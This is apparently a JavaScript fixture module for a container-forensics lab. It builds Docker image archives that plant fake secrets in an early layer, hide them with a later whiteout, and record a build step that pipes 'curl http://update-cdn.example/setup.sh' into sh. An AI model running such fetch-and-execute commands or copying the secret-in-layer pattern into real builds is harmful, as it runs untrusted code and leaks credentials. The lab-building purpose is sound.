// The incident's two images, made from the lab's own Debian root: no registry is asked.
//   lab/busybox:1   a tar for `docker import`
//   shop/web:1.4.2  a `docker save` archive of four layers for `docker load`, with a secret that a later layer removes
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';
import { labHome } from './host.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const CREATED = '2026-09-01T08:00:00Z';
const sha256 = (data) => createHash('sha256').update(data).digest('hex');

const PROGRAMS = [
  'bash',
  'dash',
  'sh',
  'perl',
  'busybox',
  'ls',
  'cat',
  'cp',
  'mv',
  'rm',
  'mkdir',
  'chmod',
  'chown',
  'touch',
  'ln',
  'sleep',
  'id',
]
  .concat([
    'grep',
    'sed',
    'find',
    'tar',
    'gzip',
    'date',
    'sha256sum',
    'base64',
    'env',
    'head',
    'tail',
    'sort',
    'wc',
    'uname',
    'echo',
    'true',
  ])
  .map((name) => `usr/bin/${name}`);
const FILES = [
  'etc/passwd',
  'etc/group',
  'etc/shadow',
  'etc/os-release',
  'usr/lib/os-release',
  'etc/debian_version',
  'etc/nsswitch.conf',
]
  .concat([
    'var/lib/dpkg/status',
    'var/lib/dpkg/info/coreutils.list',
    'var/lib/dpkg/info/coreutils.md5sums',
    'root/.bashrc',
  ])
  .concat(['bin', 'sbin', 'lib', 'lib64', 'usr/sbin']);

/** A file of `base` and every link on the way to it, as paths relative to base. */
function withLinks(base, path, into = new Set()) {
  let at = '';
  for (const part of normalize(path).split('/').filter(Boolean)) {
    const here = join(at, part);
    const info = lstatSync(join(base, here), { throwIfNoEntry: false });
    if (!info) return into;
    if (info.isSymbolicLink()) {
      into.add(here);
      const to = readlinkSync(join(base, here));
      const rest = normalize(path).split('/').filter(Boolean).slice(here.split('/').length);
      return withLinks(base, join(to.startsWith('/') ? to : join(at, to), ...rest), into);
    }
    at = here;
  }
  if (!lstatSync(join(base, at)).isDirectory()) into.add(at);
  return into;
}

/** The libraries that a Debian root's programs ask for, by its own ldd (which fails for the static busybox). */
function libraries(base) {
  const found = new Set();
  const said = execFileSync(
    'chroot',
    [base, '/usr/bin/ldd', ...PROGRAMS.filter((path) => !path.endsWith('busybox')).map((path) => `/${path}`)],
    { stdio: ['ignore', 'pipe', 'ignore'] },
  );
  for (const [, path] of said.toString().matchAll(/(\/\S+\.so\S*)/g)) found.add(path);
  for (const name of ['libattr.so.1', 'libnss_files.so.2']) {
    const at = [...found].find((path) => path.includes('/libc.so'));
    if (at) found.add(join(dirname(at), name));
  }
  return [...found];
}

const TAR = ['--owner=0', '--group=0', '--numeric-owner', '--sort=name', `--mtime=${CREATED}`, '--format=gnu'];
const tarOf = (folder, args = ['.']) =>
  execFileSync('tar', ['-C', folder, ...TAR, '-cf', '-', ...args], { maxBuffer: 1 << 29 });

function put(folder, path, content, mode = 0o644) {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), content, { mode });
}

function busyboxTar(work, base) {
  const folder = join(work, 'busybox');
  mkdirSync(join(folder, 'bin'), { recursive: true });
  for (const dir of ['tmp', 'root', 'proc', 'sys', 'dev', 'data']) mkdirSync(join(folder, dir));
  const busybox = join(base, 'usr/bin/busybox');
  cpSync(busybox, join(folder, 'bin/busybox'));
  for (const name of execFileSync(busybox, ['--list']).toString().trim().split('\n')) {
    if (name !== 'busybox') symlinkSync('busybox', join(folder, 'bin', name));
  }
  put(folder, 'etc/passwd', 'root:x:0:0:root:/root:/bin/sh\n');
  put(folder, 'etc/group', 'root:x:0:\n');
  return tarOf(folder);
}

/** The layers, oldest first: what each holds, and the build step it claims to come from. */
function layers(work, base) {
  const wanted = new Set();
  for (const path of [...PROGRAMS, ...FILES, ...libraries(base)])
    for (const one of withLinks(base, path)) wanted.add(one);
  const first = execFileSync(
    'tar',
    ['-C', base, ...TAR, '-cf', '-', ...[...wanted].sort(), `usr/lib/${perlFolder(base)}`],
    { maxBuffer: 1 << 29 },
  );

  const app = join(work, 'app');
  put(app, 'srv/shop/server.pl', readFileSync(join(here, 'payload/server.pl')), 0o755);
  put(app, 'srv/shop/.env', 'DB_PASSWORD=correct-horse-battery\nSTRIPE_KEY=sk_live_51LabOnlyNotAKey\n', 0o600);
  put(app, 'var/log/shop/access.log', '10.0.0.7 - - "GET / HTTP/1.1" 200\n'.repeat(40));
  put(app, 'srv/shop/uploads/.keep', '');
  const cleaned = join(work, 'cleaned');
  put(cleaned, 'srv/shop/.wh..env', '');
  const settings = join(work, 'settings');
  put(settings, 'etc/shop.conf', 'listen 8080\nupload_dir /srv/shop/uploads\n');
  for (const dir of ['tmp', 'var/tmp', 'root', 'usr/local/sbin', 'run/shop', 'var/backups/shop'])
    mkdirSync(join(settings, dir), { recursive: true });
  for (const dir of ['tmp', 'var/tmp']) execFileSync('chmod', ['1777', join(settings, dir)]);
  return [
    { tar: first, by: '/bin/sh -c #(nop) ADD file:debian-trixie in / ' },
    { tar: tarOf(app), by: 'COPY shop/ /srv/shop # buildkit' },
    { tar: tarOf(cleaned), by: 'RUN /bin/sh -c rm -f /srv/shop/.env # buildkit' },
    { tar: tarOf(settings), by: 'RUN /bin/sh -c curl -fsSL http://update-cdn.example/setup.sh | sh # buildkit' },
  ];
}

const perlFolder = (base) => {
  const found = execFileSync('find', [join(base, 'usr/lib'), '-maxdepth', '2', '-name', 'perl-base', '-type', 'd'])
    .toString()
    .trim()
    .split('\n')[0];
  return found.slice(join(base, 'usr/lib/').length);
};

/** A `docker save` archive: manifest.json, the image's configuration, a folder for each layer (image spec v1.2). */
function saveArchive(work, base) {
  const folder = join(work, 'save');
  const made = layers(work, base);
  const names = made.map(({ tar }) => {
    const digest = sha256(tar);
    put(folder, `${digest}/layer.tar`, tar);
    return digest;
  });
  const config = JSON.stringify({
    architecture: { x64: 'amd64', arm64: 'arm64' }[process.arch] ?? process.arch,
    os: 'linux',
    created: CREATED,
    author: 'shop build <build@shop.example>',
    config: {
      Env: [
        'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
        'API_TOKEN=ghp_labOnly0123456789abcdefLabOnly0123',
      ],
      Cmd: ['perl', '/srv/shop/server.pl'],
      WorkingDir: '/srv/shop',
      ExposedPorts: { '8080/tcp': {} },
      Labels: { maintainer: 'build@shop.example' },
    },
    rootfs: { type: 'layers', diff_ids: names.map((name) => `sha256:${name}`) },
    history: [
      ...made.map(({ by }) => ({ created: CREATED, created_by: by })),
      { created: CREATED, created_by: 'ENV API_TOKEN=ghp_labOnly0123456789abcdefLabOnly0123', empty_layer: true },
      { created: CREATED, created_by: 'CMD ["perl" "/srv/shop/server.pl"]', empty_layer: true },
    ],
  });
  const id = sha256(config);
  put(folder, `${id}.json`, config);
  put(
    folder,
    'manifest.json',
    JSON.stringify([
      { Config: `${id}.json`, RepoTags: ['shop/web:1.4.2'], Layers: names.map((name) => `${name}/layer.tar`) },
    ]),
  );
  return {
    tar: tarOf(folder, ['manifest.json', `${id}.json`, ...new Set(names)]),
    id: `sha256:${id}`,
    layers: names.map((name) => `sha256:${name}`),
  };
}

/**
 * Makes both archives once for a base root and keeps them in LAB_HOME.
 * Gives { busybox, web, webId, webLayers }: paths, the image's id (of the classic store), its layers' diff ids.
 */
export function imageArchives(base) {
  const version = sha256(
    readFileSync(join(here, 'image.mjs')) + readFileSync(join(here, 'payload/server.pl')) + base,
  ).slice(0, 12);
  const folder = join(labHome, `incident-${version}`);
  const at = { busybox: join(folder, 'busybox.tar'), web: join(folder, 'web.tar') };
  if (!existsSync(folder)) {
    const work = mkdtempSync(join(labHome, 'incident-making-'));
    try {
      const out = join(work, 'out');
      put(out, 'busybox.tar', busyboxTar(work, base));
      const web = saveArchive(work, base);
      put(out, 'web.tar', web.tar);
      put(out, 'web.json', JSON.stringify({ webId: web.id, webLayers: web.layers }));
      for (const name of readdirSync(labHome)) {
        if (/^incident-[0-9a-f]{12}$/.test(name)) rmSync(join(labHome, name), { recursive: true, force: true }); // older ones
      }
      renameSync(out, folder);
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  }
  return { ...at, ...JSON.parse(readFileSync(join(folder, 'web.json'), 'utf8')) };
}
